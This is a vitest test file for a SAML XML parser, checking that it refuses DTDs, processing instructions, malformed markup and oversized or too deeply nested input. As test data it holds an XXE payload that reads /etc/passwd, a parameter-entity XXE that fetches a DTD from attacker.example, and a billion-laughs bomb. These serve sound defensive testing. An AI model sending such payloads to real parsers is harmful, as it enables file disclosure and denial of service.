// parseXml: the only parser entry. DTDs (XXE, billion laughs) refused before xmldom sees them,
// every xmldom error/warning fatal, PIs refused, XML 1.0 line ends, size/depth bounds.
// Inline strings only: this file must also run inside workerd.
import { describe, expect, it } from 'vitest'
import { isSamlError } from '../../../src/saml/errors'
import { MAX_XML_BYTES, MAX_XML_DEPTH } from '../../../src/saml/limits'
import { parseXml } from '../../../src/saml/xml/parse'
import { NS, textContent } from '../../../src/saml/xml/dom'

/** The SamlError code `fn` throws, or 'no error'. */
function codeOf(fn: () => unknown): string {
  try {
    fn()
  } catch (error) {
    if (isSamlError(error)) return error.code
    throw error
  }
  return 'no error'
}

const response = [
  '<?xml version="1.0" encoding="UTF-8"?>',
  `<samlp:Response xmlns:samlp="${NS.samlp}" xmlns:saml="${NS.saml}" ID="_r1" Version="2.0" IssueInstant="2030-01-01T00:00:00Z">`,
  '  <saml:Issuer>https://idp.example.com</saml:Issuer>',
  `  <saml:Assertion ID="_a1" Version="2.0" IssueInstant="2030-01-01T00:00:00Z" xmlns:xs="${NS.xs}" xmlns:xsi="${NS.xsi}">`,
  '    <saml:Subject><saml:NameID>alice@example.com<!-- a comment --></saml:NameID></saml:Subject>',
  '    <saml:AttributeStatement><saml:Attribute Name="dept"><saml:AttributeValue xsi:type="xs:string">R&amp;D &lt;3 &#x1F600;</saml:AttributeValue></saml:Attribute></saml:AttributeStatement>',
  '  </saml:Assertion>',
  '</samlp:Response>',
].join('\n')

describe('parseXml accepts', () => {
  it('parses a normal SAML-ish document with namespaces, comments and references', () => {
    const doc = parseXml(response)
    const root = doc.documentElement!
    expect(root.namespaceURI).toBe(NS.samlp)
    expect(root.localName).toBe('Response')
    expect(root.getAttribute('ID')).toBe('_r1')
    const value = root.getElementsByTagNameNS(NS.saml, 'AttributeValue')[0]!
    expect(textContent(value)).toBe('R&D <3 \u{1F600}')
    expect(value.getAttributeNS(NS.xsi, 'type')).toBe('xs:string')
  })

  it('drops the XML declaration and whitespace around the root (not nodes of the XPath data model)', () => {
    const doc = parseXml(`${response}\n<!-- after -->\n`)
    expect(doc.firstChild).toBe(doc.documentElement)
    expect(doc.documentElement!.nextSibling?.nodeType).toBe(8)
    expect(doc.documentElement!.nextSibling?.nextSibling).toBeNull()
  })

  it('accepts a leading byte order mark (XML 1.0 §4.3.3: an encoding signature, not content)', () => {
    expect(parseXml('\uFEFF<?xml version="1.0"?><a/>').documentElement!.tagName).toBe('a')
  })

  it('normalizes CR LF and lone CR to LF in text and attributes (XML 1.0 §2.11, §3.3.3)', () => {
    const doc = parseXml('<?xml version="1.0"?>\r\n<a b="x\r\ny\rz">1\r\n2\r3</a>\r\n')
    const a = doc.documentElement!
    expect(a.textContent).toBe('1\n2\n3')
    // Attribute-value normalization then turns each (already normalized) LF into a space.
    expect(a.getAttribute('b')).toBe('x y z')
  })

  it('keeps a CR written as a character reference', () => {
    const a = parseXml('<a b="&#13;&#x9;">x&#xD;&#10;y</a>').documentElement!
    expect(a.textContent).toBe('x\r\ny')
    expect(a.getAttribute('b')).toBe('\r\t')
  })

  it('leaves U+0085, U+2028 and U+2029 alone (those are XML 1.1 line ends, not XML 1.0)', () => {
    expect(parseXml('<a>x\u0085y\u2028z\u2029</a>').documentElement!.textContent).toBe('x\u0085y\u2028z\u2029')
  })

  it('accepts "&", "<!DOCTYPE"-free comments and CDATA containing markup-like text', () => {
    const a = parseXml('<a><!-- a & b <?x?> --><![CDATA[<b> & <?pi?>]]></a>').documentElement!
    expect(a.textContent).toBe('<b> & <?pi?>')
  })

  it('accepts exactly MAX_XML_BYTES of UTF-8', () => {
    const head = '<a>'
    const tail = '</a>'
    const xml = head + 'x'.repeat(MAX_XML_BYTES - head.length - tail.length) + tail
    expect(parseXml(xml).documentElement!.tagName).toBe('a')
  })

  it('accepts nesting up to MAX_XML_DEPTH', () => {
    const xml = '<a>'.repeat(MAX_XML_DEPTH) + '</a>'.repeat(MAX_XML_DEPTH)
    expect(parseXml(xml).documentElement!.tagName).toBe('a')
  })
})

describe('parseXml refuses DTDs with SAML_DTD_FORBIDDEN', () => {
  it.each([
    ['a bare DOCTYPE', '<!DOCTYPE a><a/>'],
    ['a DOCTYPE after the XML declaration', '<?xml version="1.0"?>\n<!DOCTYPE a SYSTEM "a.dtd"><a/>'],
    ['a lower-case doctype', '<!doctype a><a/>'],
    ['a mixed-case DocType', '<!DocType a><a/>'],
    ['whitespace inside the markup', '<! DOCTYPE a><a/>'],
    ['a tab and newline inside the markup', '<!\t\nDOCTYPE a><a/>'],
    ['an internal subset', '<!DOCTYPE a [<!ELEMENT a (#PCDATA)><!ATTLIST a id ID #IMPLIED>]><a id="x"/>'],
    ['a stray ENTITY declaration', '<a><!ENTITY x "y"></a>'],
    ['a DOCTYPE after the root element', '<a/><!DOCTYPE a>'],
    ['a DOCTYPE hidden in a comment (refused conservatively)', '<a><!-- <!DOCTYPE a> --></a>'],
  ])('refuses %s', (_name, xml) => {
    expect(codeOf(() => parseXml(xml))).toBe('SAML_DTD_FORBIDDEN')
  })

  it('refuses an external entity (XXE) without resolving it', () => {
    const xxe = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
    expect(codeOf(() => parseXml(xxe))).toBe('SAML_DTD_FORBIDDEN')
  })

  it('refuses a parameter-entity XXE', () => {
    const xxe = '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><r/>'
    expect(codeOf(() => parseXml(xxe))).toBe('SAML_DTD_FORBIDDEN')
  })

  it('refuses billion laughs quickly, without expansion', () => {
    const decls = ['<!ENTITY l0 "lol">']
    for (let i = 1; i <= 9; i++) decls.push(`<!ENTITY l${i} "${`&l${i - 1};`.repeat(10)}">`)
    const bomb = `<?xml version="1.0"?><!DOCTYPE lolz [${decls.join('')}]><lolz>&l9;</lolz>`
    const started = performance.now()
    expect(codeOf(() => parseXml(bomb))).toBe('SAML_DTD_FORBIDDEN')
    expect(performance.now() - started).toBeLessThan(100)
  })
})

describe('parseXml refuses malformed input with SAML_MALFORMED_XML', () => {
  it.each([
    ['an empty string', ''],
    ['text without an element', 'hello'],
    ['only an XML declaration', '<?xml version="1.0"?>'],
    ['an unclosed element', '<a><b></a>'],
    ['a missing end tag', '<a>'],
    ['two root elements', '<a/><b/>'],
    ['text after the root element', '<a/>trailing'],
    ['an unquoted attribute (an xmldom warning)', '<a b=1/>'],
    ['an attribute without a value (an xmldom warning)', '<a b/>'],
    ['a duplicated attribute', '<a b="1" b="2"/>'],
    ['"<" in an attribute value', '<a b="<"/>'],
    ['a bare "&" in text', '<a>x & y</a>'],
    ['a bare "&" in an attribute value', '<a b="x & y"/>'],
    ['an undefined entity (no DTD, so only the five predefined ones exist)', '<a>&nbsp;</a>'],
    ['a reference without ";"', '<a>&amp</a>'],
    ['an upper-case hex character reference', '<a>&#X41;</a>'],
    ['a character reference to U+0000', '<a>&#0;</a>'],
    ['a character reference to a C0 control', '<a b="&#x1;"/>'],
    ['a character reference beyond U+10FFFF', '<a>&#x110000;</a>'],
    ['a raw C0 control character', '<a>\u0001</a>'],
    ['U+FFFE', '<a>\uFFFE</a>'],
    ['an unpaired surrogate', '<a>\uD800</a>'],
    ['an XML declaration not at the start', ' <?xml version="1.0"?><a/>'],
    ['a malformed comment', '<a><!-- a -- b --></a>'],
    ['an unterminated CDATA section', '<a><![CDATA[x</a>'],
    ['markup starting with "<!" that is neither comment nor CDATA', '<a><!FOO></a>'],
  ])('refuses %s', (_name, xml) => {
    expect(codeOf(() => parseXml(xml))).toBe('SAML_MALFORMED_XML')
  })

  it.each([
    ['in the body', '<a><?php echo 1 ?></a>'],
    ['before the root element', '<?xml-stylesheet href="x.xsl"?><a/>'],
    ['after the root element', '<a/><?pi data?>'],
    ['after the XML declaration', '<?xml version="1.0"?><?pi?><a/>'],
    ['deep inside', '<a><b><c><?x?></c></b></a>'],
  ])('refuses a processing instruction %s', (_name, xml) => {
    expect(codeOf(() => parseXml(xml))).toBe('SAML_MALFORMED_XML')
  })

  it.each([
    ['element prefix', '<p:a/>'],
    ['attribute prefix', '<a p:b="1"/>'],
    ['prefix whose declaration is out of scope', '<a><b xmlns:p="urn:p"/><p:c/></a>'],
  ])('refuses an unbound %s', (_name, xml) => {
    expect(codeOf(() => parseXml(xml))).toBe('SAML_MALFORMED_XML')
  })

  it.each([
    ['undeclaring a prefix (Namespaces 1.1 only)', '<a xmlns:p=""/>'],
    ['declaring the xmlns prefix', '<a xmlns:xmlns="urn:x"/>'],
    ['binding xml to another namespace', '<a xmlns:xml="urn:x"/>'],
    ['binding another prefix to the xml namespace', `<a xmlns:x="${NS.xml}"/>`],
    ['binding the default namespace to the xmlns namespace', `<a xmlns="${NS.xmlns}"/>`],
  ])('refuses reserved namespace misuse: %s', (_name, xml) => {
    expect(codeOf(() => parseXml(xml))).toBe('SAML_MALFORMED_XML')
  })

  it('carries no document bytes in the error detail', () => {
    try {
      parseXml('<a>secret-token-123</a>trailing secret-token-123')
      expect.unreachable()
    } catch (error) {
      expect(isSamlError(error) && error.code).toBe('SAML_MALFORMED_XML')
      expect(JSON.stringify((error as { detail: unknown }).detail)).not.toContain('secret-token-123')
    }
  })
})

describe('parseXml bounds its input', () => {
  it('refuses one byte over MAX_XML_BYTES with SAML_INPUT_TOO_LARGE', () => {
    const xml = `<a>${'x'.repeat(MAX_XML_BYTES)}</a>`
    expect(codeOf(() => parseXml(xml))).toBe('SAML_INPUT_TOO_LARGE')
  })

  it('counts UTF-8 bytes, not UTF-16 code units', () => {
    // 100 × "é" is 100 code units but 200 bytes.
    const xml = `<a>${'é'.repeat(100)}</a>`
    expect(codeOf(() => parseXml(xml, { maxBytes: 150 }))).toBe('SAML_INPUT_TOO_LARGE')
    expect(codeOf(() => parseXml(xml, { maxBytes: 207 }))).toBe('no error')
    expect(codeOf(() => parseXml(xml, { maxBytes: 206 }))).toBe('SAML_INPUT_TOO_LARGE')
    // An astral character is 2 code units and 4 bytes.
    expect(codeOf(() => parseXml('<a>\u{1F600}</a>', { maxBytes: 11 }))).toBe('no error')
    expect(codeOf(() => parseXml('<a>\u{1F600}</a>', { maxBytes: 10 }))).toBe('SAML_INPUT_TOO_LARGE')
  })

  it('checks the size before looking for a DTD', () => {
    expect(codeOf(() => parseXml(`<!DOCTYPE a><a>${'x'.repeat(100)}</a>`, { maxBytes: 50 }))).toBe('SAML_INPUT_TOO_LARGE')
  })

  it('refuses nesting deeper than MAX_XML_DEPTH with SAML_INPUT_TOO_LARGE', () => {
    const depth = MAX_XML_DEPTH + 1
    expect(codeOf(() => parseXml('<a>'.repeat(depth) + '</a>'.repeat(depth)))).toBe('SAML_INPUT_TOO_LARGE')
    expect(codeOf(() => parseXml('<a><a><a></a></a></a>', { maxDepth: 2 }))).toBe('SAML_INPUT_TOO_LARGE')
  })
})
